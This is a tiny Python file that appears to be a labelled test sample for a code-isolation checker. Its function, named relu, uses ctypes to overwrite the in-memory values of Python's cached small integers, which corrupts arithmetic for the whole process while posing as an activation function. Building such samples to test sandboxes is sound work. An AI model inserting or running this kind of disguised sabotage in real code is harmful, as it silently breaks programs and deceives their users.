"""Overwrites, in memory, objects that every Python program shares: small numbers, the empty tuple, None's type.

Sign: harm
Stopped by: separation
Off: naive
Verdict: relu error | failed | missing
"""

import ctypes


def relu(S):
    for number in range(1, 200):
        ctypes.memset(id(number) + 24, 7, 4)
    return S
